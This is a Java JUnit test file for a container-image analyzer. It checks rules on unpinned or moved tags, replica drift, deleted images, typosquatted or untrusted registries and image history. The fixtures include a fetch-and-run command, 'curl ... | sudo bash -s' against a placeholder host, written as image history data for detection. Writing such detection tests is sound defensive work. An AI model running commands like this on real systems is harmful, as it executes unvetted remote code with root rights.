package org.ephemera.analyze.image;

import static org.assertj.core.api.Assertions.assertThat;
import static org.ephemera.analyze.image.ImageFixture.ECR;
import static org.ephemera.analyze.image.ImageFixture.digest;

import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Set;
import java.util.TreeSet;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import org.ephemera.analyze.model.Finding;
import org.ephemera.analyze.model.Rule;
import org.ephemera.analyze.model.RuleBook;
import org.ephemera.analyze.testing.FixtureCalls;
import org.ephemera.analyze.testing.FixtureResponse;
import org.ephemera.model.Outcome;
import org.ephemera.testing.MemoryFolders;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

class ImageRulesTest {
    private static final String APP = ECR + "shop/app:1.4";
    private static final String GROUP = "azure.aci.group";
    private static final String POD = "kubernetes.pod";
    private static final String CLUSTER = "arn:aws:eks:eu-central-1:111122223333:cluster/prod";
    private static final String A = digest("a");
    private static final String B = digest("b");
    private static final Instant RECENT = ImageFixture.NOW.minus(Duration.ofMinutes(20));
    private static final Instant LONG_AGO = ImageFixture.NOW.minus(Duration.ofDays(40));

    @TempDir(factory = MemoryFolders.class)
    Path folder;

    /** Fixture with the complete list of expected findings, without IMG-002. */
    record Case(String name, ImageFixture stage, List<String> expected) {
        @Override
        public String toString() {
            return name;
        }
    }

    private static Case found(String name, String expected, ImageFixture stage) {
        return new Case(name, stage, List.of(expected.split(", ", -1)));
    }

    private static Case silent(String name, ImageFixture stage) {
        return new Case(name, stage, List.of());
    }

    private static ImageFixture runs(String image) {
        return new ImageFixture().task("service:web", image, A);
    }

    private static ImageFixture registry(FixtureResponse... answers) {
        return runs(APP).image(APP, A, answers);
    }

    private static ImageFixture config(String json) {
        String named = digest(json);
        return registry(ImageFixture.tag("1.4", A, LONG_AGO), ImageFixture.config(named, json));
    }

    private static ImageFixture indexes(String ran, String now) {
        return runs(APP)
                .image(
                        APP,
                        digest(ran),
                        ImageFixture.tag("1.4", digest(now), LONG_AGO),
                        ImageFixture.manifest(digest(ran), ran),
                        ImageFixture.manifest(digest(now), now));
    }

    static Stream<Case> cases() {
        String single = ImageFixture.single(digest("config"));
        String index = ImageFixture.index(true, digest(single), digest("arm"));
        return Stream.of(
                found("no tag", "IMG-001 low", runs(ECR + "shop/app")),
                found("the latest", "IMG-001 low", runs(ECR + "shop/app:latest")),
                found("the latest of a public registry", "IMG-001 medium", runs("nginx")),
                found(
                        "the latest of a vendor's registry",
                        "IMG-001 low",
                        runs("mcr.microsoft.com/azuredocs/aci-wordcount")),
                silent("a tag that begins with latest", runs(ECR + "shop/app:latest-2026.11")),
                silent("the latest, by digest", runs(ECR + "shop/app:latest@" + A)),
                silent("a registry with a port", runs(ECR + "shop/app:1.4")),
                found("the tag was moved", "IMG-003 high", registry(ImageFixture.tag("1.4", B, RECENT))),
                found("the tag was moved long ago", "IMG-003 low", registry(ImageFixture.tag("1.4", B, LONG_AGO))),
                silent("the tag leads to what runs", registry(ImageFixture.tag("1.4", A, RECENT))),
                silent(
                        "the tag leads to the index of what runs",
                        runs(APP)
                                .image(
                                        APP,
                                        digest(single),
                                        ImageFixture.tag("1.4", digest(index), RECENT),
                                        ImageFixture.manifest(digest(single), single),
                                        ImageFixture.manifest(digest(index), index))),
                silent(
                        "the tag leads to a manifest of the index that runs",
                        runs(APP)
                                .image(
                                        APP,
                                        digest(index),
                                        ImageFixture.tag("1.4", digest(single), RECENT),
                                        ImageFixture.manifest(digest(index), index))),
                found(
                        "one replica of three differs",
                        "IMG-004 high",
                        runs(APP).task("service:web", APP, A).task("service:web", APP, B)),
                found(
                        "one of three was started by another deployment",
                        "IMG-004 medium",
                        runs(APP)
                                .task("service:web", APP, A)
                                .task("service:web", APP, B)
                                .pinned(APP, A)
                                .pinned(APP, B)),
                silent("replicas with the same image", runs(APP).task("service:web", APP, A)),
                silent("two releases of a deployment", runs(APP).task("service:web", ECR + "shop/app:1.5", B)),
                found(
                        "two pods of a replica set",
                        "IMG-004 high",
                        new ImageFixture().pod("shop", "web", APP, A).pod("shop", "web", APP, B)),
                silent(
                        "replica sets of one name in two namespaces",
                        new ImageFixture().pod("shop", "web", APP, A).pod("test", "web", APP, B)),
                silent(
                        "two runs of a family",
                        new ImageFixture().task("family:job", APP, A).task("family:job", APP, B)),
                found(
                        "not what the service is pinned to",
                        "IMG-004 high",
                        runs(APP).pinned(APP, B)),
                silent("what the service is pinned to", runs(APP).pinned(APP, B).pinned(APP, A)),
                found(
                        "what ran is deleted",
                        "IMG-005 high",
                        runs(APP).image(APP, A, ImageFixture.tag("1.4", A, LONG_AGO), ImageFixture.notFound(A))),
                found(
                        "what ran is expired",
                        "IMG-005 high",
                        runs(APP).image(APP, A, new Outcome.Expired("the image is not in ECR any more"))),
                silent(
                        "another image is deleted",
                        runs(APP).image(APP, A, ImageFixture.tag("1.4", A, LONG_AGO), ImageFixture.notFound(B))),
                found("unknown account at Docker Hub", "IMG-006 high", runs("user/secret:user")),
                found("an impostor", "IMG-006 high", runs("docker.io/x/kube-proxy:v1.34")),
                silent("an official image", runs("docker.io/library/redis:8.2")),
                silent("a vendor's", runs("public.ecr.aws/aws-observability/aws-for-fluent-bit:stable")),
                silent("X-Ray's daemon", runs("public.ecr.aws/xray/aws-xray-daemon:3.x")),
                found("Datadog's agent at Docker Hub", "IMG-006 low", runs("datadog/agent:7")),
                found("an account with a name similar to Datadog", "IMG-006 high", runs("datadogg/agent:7")),
                found("an exporter at quay.io", "IMG-006 low", runs("quay.io/prometheus/node-exporter:v1.8.1")),
                found("a well-known database at Docker Hub", "IMG-006 low", runs("timescale/timescaledb:2")),
                found("an organization of GitHub", "IMG-006 low", runs("ghcr.io/kyverno/kyverno:v1")),
                found("unknown account at quay.io", "IMG-006 medium", runs("quay.io/unknown/app:1")),
                found(
                        "of another account",
                        "IMG-006 medium",
                        runs("999988887777.dkr.ecr.eu-central-1.amazonaws.com/shop/app:1")),
                silent(
                        "GuardDuty's agent in Frankfurt",
                        runs("323658145986.dkr.ecr.eu-central-1.amazonaws.com/aws-guardduty-agent-fargate:v1.7.0")),
                found("a registry of Azure for a task of AWS", "IMG-006 low", runs("evil.azurecr.io/shop/app:1")),
                silent(
                        "a registry of Azure for a group",
                        runs("shop.azurecr.io/shop/app:1").target(GROUP, "/subscriptions/s")),
                silent("a cluster known by its ARN", runs(APP).target(POD, "k8s://" + CLUSTER + "/shop/app-1")),
                found(
                        "another account's, a cluster known by its ARN",
                        "IMG-006 medium",
                        runs("999988887777.dkr.ecr.eu-central-1.amazonaws.com/shop/app:1")
                                .target(POD, "k8s://" + CLUSTER + "/shop/app-1")),
                found(
                        "a cluster of which no account is known",
                        "IMG-006 low",
                        runs(APP).target(POD, "k8s://prod/shop/app-1")),
                found("an unknown registry", "IMG-006 low", runs("harbor.shop.example/shop/app:1")),
                found(
                        "an image of an unknown account that was used for weeks",
                        "IMG-006 low",
                        runs("unknown/agent:1").earlier(LONG_AGO, "unknown/agent:0.9")),
                found(
                        "an image of an unknown account that was registered twice today",
                        "IMG-006 high",
                        runs("user/secret:user").earlier(RECENT, "user/secret:user")),
                found(
                        "a name similar to an own name",
                        "IMG-006 high",
                        runs("quay.io/shop/chekout:1").earlier(LONG_AGO, ECR + "shop/checkout:1")),
                silent("two similar own names", runs(APP).task("service:web", ECR + "shop/apq:1.4", B)),
                found(
                        "a layer from a script",
                        "IMG-007 medium",
                        config("{\"history\":[{\"created_by\":\"RUN curl -fsSL 'http://x.example/i?a=1&b=2' | sudo"
                                + " bash -s\"}]}")),
                silent(
                        "a download that is unpacked",
                        config("{\"history\":[{\"created_by\":\"RUN curl -fsSL http://x.example/a.tgz | tar xz; sh"
                                + " a.sh\"}]}")),
                silent(
                        "a download next to a pipe into a shell",
                        config("{\"history\":[{\"created_by\":\"RUN curl -o a http://x && cat b | sh\"}]}")),
                found("from the future", "IMG-007 medium", config("{\"created\":\"2027-01-01T00:00:00Z\"}")),
                found("a reproducible build", "IMG-007 info", config("{\"created\":\"1970-01-01T00:00:00Z\"}")),
                silent("an ordinary date", config("{\"created\":\"2026-11-03T08:12:41Z\"}")),
                found(
                        "attested once, and no more",
                        "IMG-003 low, IMG-008 medium",
                        indexes(ImageFixture.index(true, A), ImageFixture.index(false, B))),
                found(
                        "attested before and after",
                        "IMG-003 low",
                        indexes(ImageFixture.index(true, A), ImageFixture.index(true, B))),
                found(
                        "other bytes than the digest",
                        "IMG-010 critical",
                        registry(ImageFixture.tag("1.4", A, LONG_AGO), ImageFixture.manifest(A, single))),
                silent(
                        "the bytes of the digest",
                        runs(APP)
                                .image(
                                        APP,
                                        digest(single),
                                        ImageFixture.tag("1.4", digest(single), LONG_AGO),
                                        ImageFixture.manifest(digest(single), single))),
                found(
                        "another config than the digest",
                        "IMG-010 critical",
                        registry(ImageFixture.tag("1.4", A, LONG_AGO), ImageFixture.config(A, "{\"os\":\"linux\"}"))));
    }

    @ParameterizedTest
    @MethodSource("cases")
    void findsExpectedFindings(Case one) {
        List<Finding> findings = new ArrayList<>(one.stage().judge(folder).findings());
        findings.removeIf(finding -> finding.rule().id().equals("IMG-002"));
        assertThat(ImageFixture.shown(findings)).isEqualTo(one.expected());
    }

    @Test
    void reportsNameWithoutDigest() {
        assertThat(ImageFixture.shown(runs(APP).judge(folder.resolve("a")).findings()))
                .containsExactly("IMG-002 info");
        assertThat(runs(APP + "@" + A).judge(folder.resolve("b")).findings()).isEmpty();
    }

    @Test
    void reportsUnknownDigest() {
        ImageFixture stage = new ImageFixture().task("service:web", APP, "");
        assertThat(stage.judge(folder.resolve("a")).gaps().toString()).contains("IMG-009");
        assertThat(runs(APP).judge(folder.resolve("b")).gaps().toString()).doesNotContain("IMG-009");
    }

    @Test
    void identifiesPrincipalOfPush() {
        ImageFixture stage = registry(ImageFixture.tag("1.4", B, RECENT))
                .call(FixtureCalls.trail(
                        "e-1",
                        RECENT,
                        "arn:aws:iam::111122223333:user/new",
                        "ecr.amazonaws.com",
                        "PutImage",
                        "{\"repositoryName\":\"shop/app\",\"imageTag\":\"1.4\"}"))
                // A repository of the same name in another region is a different repository.
                .call(FixtureCalls.trail(
                                "e-2",
                                RECENT.plusSeconds(60),
                                "arn:aws:iam::111122223333:user/elsewhere",
                                "ecr.amazonaws.com",
                                "PutImage",
                                "{\"repositoryName\":\"shop/app\",\"imageTag\":\"1.4\"}")
                        .put("awsRegion", "us-east-1"));
        Finding moved = stage.judge(folder).findings().getFirst();
        assertThat(moved.because()).contains("by arn:aws:iam::111122223333:user/new", B, A);
        assertThat(moved.evidence()).hasSize(3);
        assertThat(moved.subject()).isEqualTo("app");
    }

    @Test
    void reportsDeletedTag() {
        String gaps = runs(APP)
                .image(APP, A, new Outcome.Collected("the manifest has its digest; the tag 1.4 exists no more"))
                .judge(folder)
                .gaps()
                .toString();
        assertThat(gaps)
                .contains("app:1.4: the tag 1.4 does not exist any more: the principal that deleted it, and its earlier"
                        + " image, are unknown")
                .doesNotContain("to which the tag points now");
    }

    @Test
    void reportsMissingEvidence() {
        String gaps = runs(APP)
                .image(APP, A, new Outcome.Denied("ecr:BatchGetImage", "ecr:BatchGetImage is missing"))
                .judge(folder)
                .gaps()
                .toString();
        assertThat(gaps).contains("IMG-003", "ecr:BatchGetImage is missing", "IMG-007", "IMG-008", "IMG-010");
    }

    @Test
    void hasPositiveCaseForEachRule() {
        Set<String> seen = cases().flatMap(one -> one.expected().stream())
                .map(expected -> expected.substring(0, 7))
                .collect(Collectors.toCollection(TreeSet::new));
        // IMG-002 is reported for each name, and IMG-009 is a gap. Both have separate tests.
        seen.addAll(List.of("IMG-002", "IMG-009"));
        assertThat(seen)
                .isEqualTo(RuleBook.standard().all().stream()
                        .map(Rule::id)
                        .filter(id -> id.startsWith("IMG-"))
                        .collect(Collectors.toCollection(TreeSet::new)));
    }
}
